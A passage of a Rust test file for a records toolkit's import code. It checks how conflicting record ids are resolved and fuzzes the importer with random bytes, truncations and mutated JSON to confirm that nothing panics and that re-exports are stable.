    let here = listed(&[(&d.id, true)]);
    let c = conflict(d, nrf(), &here);
    assert_eq!(c, Conflict::SameFinal);
    let e = resolve(d, c, Resolution::Replace, NEW_ID, &here).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Conflict);
    assert_eq!(
        e.to_string(),
        "A final record with this id is already here and is never replaced: keep both instead"
    );
    let copy = resolve(d, c, Resolution::KeepBoth, NEW_ID, &here)
        .unwrap()
        .unwrap();
    assert_eq!(copy.id, NEW_ID);
    assert_eq!(
        copy.finished.as_ref().unwrap().reference,
        "NRF-20270602-2C5EA4C0"
    );
    assert_eq!(copy.answers, d.answers);
    assert!(copy.is_locked());
    // The copy exports and imports again as a record of its own.
    let again = import_all(export_of(&copy).as_bytes()).unwrap();
    assert_eq!(again.records[0].draft, copy);
}

#[test]
fn rec_4_a_record_in_progress_here_can_be_replaced_or_kept_beside_the_import() {
    let got = import_all(&fixture("valid-draft.json")).unwrap();
    let d = &got.records[0].draft;
    let here = listed(&[(&d.id, false)]);
    let c = conflict(d, nrf(), &here);
    assert_eq!(c, Conflict::Same);
    assert_eq!(
        resolve(d, c, Resolution::Replace, "", &here)
            .unwrap()
            .as_ref(),
        Some(d)
    );
    assert_eq!(
        resolve(d, c, Resolution::KeepBoth, NEW_ID, &here)
            .unwrap()
            .unwrap()
            .id,
        NEW_ID
    );
    assert_eq!(
        resolve(d, c, Resolution::Add, NEW_ID, &here)
            .unwrap_err()
            .to_string(),
        "A record with this id is already here: choose to keep both or to replace it"
    );
    // The new id must be fresh and one the app makes.
    for bad in ["", "copy-1", d.id.as_str()] {
        assert_eq!(
            resolve(d, c, Resolution::KeepBoth, bad, &here)
                .unwrap_err()
                .to_string(),
            "The new id for the copy is not a fresh record id"
        );
    }
    let taken = listed(&[(&d.id, false), (NEW_ID, false)]);
    assert!(resolve(d, c, Resolution::KeepBoth, NEW_ID, &taken).is_err());
    // New: added as it is.
    assert_eq!(
        resolve(d, Conflict::New, Resolution::Add, "", &Here::default())
            .unwrap()
            .as_ref(),
        Some(d)
    );
}

// ---------------------------------------------------------------------------------------------
// Fuzzing (REC-3): nothing panics; what imports is a fixed point.

/// Export texts of a few records, to mutate: a small draft, a finished referral, a final PGA.
fn seeds() -> &'static [String] {
    static SEEDS: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    SEEDS.get_or_init(|| {
        let samples = records::samples();
        let mut out = vec![String::from_utf8(fixture("valid-draft.json")).unwrap()];
        for name in ["finished referral", "final Gateway Assessment", "PLP panel"] {
            out.push(export_of(
                &samples.iter().find(|s| s.name == name).unwrap().draft,
            ));
        }
        out
    })
}

/// Whether the form of an exported record marks `field` as one an import may find absent
/// (a field added while the form was in use, decision 0022: the PGA's `referral_id`).
fn optional_field(record: &Value, field: &str) -> bool {
    let form = record["form"]["id"].as_str().unwrap_or_default();
    forms().iter().find(|s| s.id == form).is_some_and(|s| {
        s.def
            .extra_fields()
            .iter()
            .any(|e| e.field() == field && e.optional())
    })
}

#[test]
fn rec_3_deleting_each_top_level_field_is_refused_unless_the_form_marks_it_optional() {
    // Every top-level field of every seed, deleted one at a time (the proptest below samples
    // these at random; this walks them all, so a change to the optional list cannot slip by).
    let mut optional_seen = Vec::new();
    for seed in seeds() {
        let v: Value = serde_json::from_str(seed).unwrap();
        for field in v.as_object().unwrap().keys() {
            let mut cut = v.clone();
            cut.as_object_mut().unwrap().remove(field);
            let got = import_all(cut.to_string().as_bytes());
            if optional_field(&v, field) {
                assert!(
                    got.is_ok(),
                    "deleting optional {field} must import: {:?}",
                    got.err()
                );
                optional_seen.push(field.clone());
            } else {
                assert!(got.is_err(), "deleting {field} must be refused");
            }
        }
    }
    assert_eq!(
        optional_seen,
        ["referral_id"],
        "decision 0022: only the PGA's referral_id"
    );
}

/// Import, and when it imports, export then import again: the second import must succeed and
/// export the same bytes.
fn fixed_point(bytes: &[u8]) {
    let f = forms();
    let k = known(f);
    let Ok(first) = parse(bytes, &k, &records::ctx()) else {
        return;
    };
    for r in &first.records {
        let text = export_of(&r.draft);
        let second = parse(text.as_bytes(), &k, &records::ctx())
            .unwrap_or_else(|e| panic!("re-import failed: {e}\n{text}"));
        assert_eq!(export_of(&second.records[0].draft), text);
    }
}

#[test]
fn rec_3_every_truncation_of_an_export_is_refused_as_cut_short() {
    for seed in seeds() {
        // Every cut before the closing brace (what follows it is only white space).
        let bytes = seed.trim_end().as_bytes();
        let step = (bytes.len() / 600).max(1);
        for cut in (0..bytes.len()).step_by(step).chain([bytes.len() - 1]) {
            let e = import_all(&bytes[..cut]).expect_err("a cut export is refused");
            assert!(
                matches!(
                    e.kind,
                    ErrorKind::Truncated | ErrorKind::Empty | ErrorKind::NotText
                ),
                "cut at {cut}: {e}"
            );
        }
    }
}

/// Every path to an object field in `v`, as JSON pointer segments.
fn field_paths(v: &Value, at: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
    match v {
        Value::Object(m) => {
            for (k, x) in m {
                at.push(k.clone());
                out.push(at.clone());
                field_paths(x, at, out);
                at.pop();
            }
        }
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                at.push(i.to_string());
                field_paths(x, at, out);
                at.pop();
            }
        }
        _ => {}
    }
}

fn pointer(path: &[String]) -> String {
    path.iter()
        .map(|s| format!("/{}", s.replace('~', "~0").replace('/', "~1")))
        .collect()
}

fn json_value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(|n| json!(n)),
        any::<f64>().prop_map(|n| json!(n)),
        "[a-z0-9 .:/-]{0,12}".prop_map(Value::String),
        Just(json!("2027-02-31")),
        Just(json!("in-progress")),
        Just(json!("finished")),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
            prop::collection::btree_map("[a-z_]{1,6}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    // 256 cases each by default; PROPTEST_CASES=20000 for a longer run.
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn rec_3_arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        fixed_point(&bytes);
    }

    #[test]
    fn rec_3_arbitrary_json_like_text_never_panics(text in "[\\[\\]{}\",:0-9a-z .\\\\-]{0,300}") {
        fixed_point(text.as_bytes());
    }

    #[test]
    fn rec_3_byte_flips_in_an_export_never_panic(seed in 0usize..4, at in any::<prop::sample::Index>(), byte in any::<u8>(), more in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..3)) {
        let mut bytes = seeds()[seed].clone().into_bytes();
        let n = bytes.len();
        bytes[at.index(n)] = byte;
        for (i, b) in more {
            bytes[i.index(n)] = b;
        }
        fixed_point(&bytes);
    }

    #[test]
    fn rec_3_a_deleted_field_never_panics_and_a_required_one_is_refused(seed in 0usize..4, pick in any::<prop::sample::Index>()) {
        let mut v: Value = serde_json::from_str(&seeds()[seed]).unwrap();
        let mut paths = Vec::new();
        field_paths(&v, &mut Vec::new(), &mut paths);
        let path = &paths[pick.index(paths.len())];
        let (last, parent) = path.split_last().unwrap();
        v.pointer_mut(&pointer(parent)).unwrap().as_object_mut().unwrap().remove(last);
        let got = import_all(v.to_string().as_bytes());
        if (path.len() == 1 && !optional_field(&v, &path[0])) || (path.len() == 2 && path[0] == "form") {
            prop_assert!(got.is_err(), "deleting {:?} must be refused", path);
        }
        fixed_point(v.to_string().as_bytes());
    }

    #[test]
    fn rec_3_a_field_replaced_by_any_json_never_panics(seed in 0usize..4, pick in any::<prop::sample::Index>(), with in json_value()) {
        let mut v: Value = serde_json::from_str(&seeds()[seed]).unwrap();
        let mut paths = Vec::new();
        field_paths(&v, &mut Vec::new(), &mut paths);
        let path = &paths[pick.index(paths.len())];
        *v.pointer_mut(&pointer(path)).unwrap() = with;
        fixed_point(v.to_string().as_bytes());
    }

    #[test]
    fn rec_3_a_selection_of_mutated_records_never_panics(picks in prop::collection::vec((0usize..4, any::<prop::sample::Index>(), json_value()), 1..4)) {
        let records: Vec<Value> = picks.into_iter().map(|(seed, pick, with)| {
            let mut v: Value = serde_json::from_str(&seeds()[seed]).unwrap();
            let mut paths = Vec::new();
            field_paths(&v, &mut Vec::new(), &mut paths);
            *v.pointer_mut(&pointer(&paths[pick.index(paths.len())])).unwrap() = with;
            v
        }).collect();
        let sel = json!({"format": "prevent-toolkit/records", "format_version": 1, "protective_marking": "OFFICIAL-SENSITIVE", "records": records});
        fixed_point(sel.to_string().as_bytes());
    }
}

#[test]
fn rec_4_a_plp_case_kept_as_a_copy_takes_its_linked_records_in_the_same_file_with_it() {
    use prevent_core::import::resolve_all;
    use prevent_core::plp_form::CASE_FIELD;
    let all = records::samples();
    let case = &all
        .iter()
        .find(|s| s.draft.id == records::CASE_ID)
        .unwrap()
        .draft;
    let linked: Vec<&Draft> = all
        .iter()
        .map(|s| &s.draft)
        .filter(|d| d.answers.text(CASE_FIELD) == Some(records::CASE_ID))
        .collect();
    assert!(!linked.is_empty());
    // The case is here already (final): it can only be kept beside the import, as a copy.
    let here = listed(&[(&case.id, true)]);
    let mut chosen = vec![(case, Conflict::SameFinal, Resolution::KeepBoth)];
    chosen.extend(linked.iter().map(|d| (*d, Conflict::New, Resolution::Add)));
    let mut ids = [
        "1b4e28ba-2fa1-41d2-883f-0016d3cca427",
        "6fa459ea-ee8a-4ca4-894e-db77e160355e",
    ]
    .into_iter();
    let out = resolve_all(
        &chosen,
        || ids.next().unwrap_or_default().to_string(),
        &here,
        &[CASE_FIELD],
    )
    .unwrap();
    let copy = &out[0].id;
    assert_ne!(copy, &case.id);
    for d in &out[1..] {
        assert_eq!(
            d.answers.text(CASE_FIELD),
            Some(copy.as_str()),
            "{} follows the copy",
            d.form
        );
    }
    // Added as it is, the case keeps its linked records on its own id.
    let alone: Vec<_> = chosen
        .iter()
        .map(|(d, _, _)| (*d, Conflict::New, Resolution::Add))
        .collect();
    let out = resolve_all(&alone, String::new, &Here::default(), &[CASE_FIELD]).unwrap();
    assert!(out[1..]
        .iter()
        .all(|d| d.answers.text(CASE_FIELD) == Some(records::CASE_ID)));
    // A choice that is not offered refuses the whole file.
    let bad = vec![(case, Conflict::SameFinal, Resolution::Replace)];
    assert!(resolve_all(&bad, String::new, &here, &[CASE_FIELD]).is_err());
}
